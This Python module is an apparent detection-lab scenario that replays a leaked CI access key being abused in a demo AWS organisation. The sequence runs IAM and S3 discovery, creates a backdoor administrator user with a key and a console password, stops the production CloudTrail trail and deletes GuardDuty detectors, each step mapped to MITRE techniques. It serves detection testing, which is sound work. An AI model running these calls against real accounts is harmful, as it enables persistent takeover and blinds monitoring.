"""compromised-credentials: the CI user's leaked access key used from outside.

What a real intrusion with a key scraped from a build log looks like in CloudTrail: a discovery
burst, then persistence (a backdoor user with a key, a console password and AdministratorAccess),
then defence evasion (the prod trail stopped, GuardDuty's detector deleted). Every call is made with
``prod/ci-deployer``'s key from ``ATTACKER_IP`` with a Kali Linux AWS CLI user agent.
"""

from __future__ import annotations

import secrets

from cloudwarden.lab import demo_org as org
from cloudwarden.lab.actors import Actor, Credentials
from cloudwarden.lab.scenarios.base import Scenario, ScenarioContext, pages, tolerate

# Named like a service account so it blends in; asked to be added to demo_org.
BACKDOOR_USER = org.BACKDOOR_USER
ADMIN_POLICY = "arn:aws:iam::aws:policy/AdministratorAccess"
DISCOVERY_REGIONS = (org.HOME_REGION, org.SECOND_REGION, "us-west-2", org.UNUSED_REGION)


def run(ctx: ScenarioContext) -> None:
    attacker = ctx.actor(f"prod/{org.USER_CI}", source_ip=org.ATTACKER_IP, user_agent=org.ATTACKER_USER_AGENT)

    # Discovery: who am I, what is here.
    attacker.client("sts").get_caller_identity()
    iam = attacker.client("iam")
    iam.list_users()
    iam.list_roles()
    iam.list_attached_user_policies(UserName=org.USER_CI)
    iam.list_user_policies(UserName=org.USER_CI)
    tolerate(lambda: attacker.client("organizations").describe_organization(),
             "AccessDeniedException", "AWSOrganizationsNotInUseException")
    attacker.client("s3").list_buckets()
    attacker.client("ec2").describe_regions()
    for region in DISCOVERY_REGIONS:
        attacker.client("ec2", region).describe_instances()
    attacker.client("secretsmanager").list_secrets()
    attacker.client("cloudtrail").describe_trails()
    attacker.client("guardduty").list_detectors()

    # Persistence: a backdoor administrator with a key and a console password.
    tolerate(lambda: iam.create_user(UserName=BACKDOOR_USER), "EntityAlreadyExists")
    keys = pages(iam, "list_access_keys", "AccessKeyMetadata", UserName=BACKDOOR_USER)
    if len(keys) >= 2:  # a second run: make room, as the attacker would
        iam.delete_access_key(UserName=BACKDOOR_USER, AccessKeyId=keys[0]["AccessKeyId"])
    new_key = iam.create_access_key(UserName=BACKDOOR_USER)["AccessKey"]
    tolerate(lambda: iam.create_login_profile(UserName=BACKDOOR_USER, Password=secrets.token_urlsafe(18) + "!9aA",
                                              PasswordResetRequired=False), "EntityAlreadyExists")
    iam.attach_user_policy(UserName=BACKDOOR_USER, PolicyArn=ADMIN_POLICY)

    # The backdoor works.
    backdoor = Actor(ctx.endpoint_url, Credentials(new_key["AccessKeyId"], new_key["SecretAccessKey"]),
                     f"prod/{BACKDOOR_USER}", org.HOME_REGION, org.ATTACKER_IP, org.ATTACKER_USER_AGENT,
                     ctx.calls.append)
    backdoor.client("sts").get_caller_identity()

    # Defence evasion: stop the prod trail, delete GuardDuty's detector.
    attacker.client("cloudtrail").stop_logging(Name=org.TRAIL_PROD)
    guardduty = attacker.client("guardduty")
    for detector_id in guardduty.list_detectors().get("DetectorIds", []):
        guardduty.delete_detector(DetectorId=detector_id)


SCENARIO = Scenario(
    name="compromised-credentials",
    title="Leaked CI access key used from outside",
    description=(
        f"prod/{org.USER_CI}'s access key is used from {org.ATTACKER_IP} (Kali AWS CLI): GetCallerIdentity; "
        "ListUsers, ListRoles, the caller's own policies; DescribeOrganization; ListBuckets; DescribeRegions and "
        f"DescribeInstances in {', '.join(DISCOVERY_REGIONS)}; ListSecrets; DescribeTrails; ListDetectors. "
        f"Then CreateUser {BACKDOOR_USER}, CreateAccessKey, CreateLoginProfile, AttachUserPolicy "
        "AdministratorAccess, GetCallerIdentity with the new key, StopLogging on "
        f"{org.TRAIL_PROD}, and DeleteDetector for prod's GuardDuty detector."
    ),
    mitre=("T1078.004", "T1087.004", "T1580", "T1136.003", "T1098.001", "T1562.008", "T1562.001"),
    finding_types=(
        "UnauthorizedAccess:IAMUser/MaliciousIPCaller.Custom",
        "PenTest:IAMUser/KaliLinux",
        "Discovery:IAMUser/AnomalousBehavior",
        "Persistence:IAMUser/AnomalousBehavior",
        "Stealth:IAMUser/CloudTrailLoggingDisabled",
        "Impact:IAMUser/AnomalousBehavior",
    ),
    run=run,
)
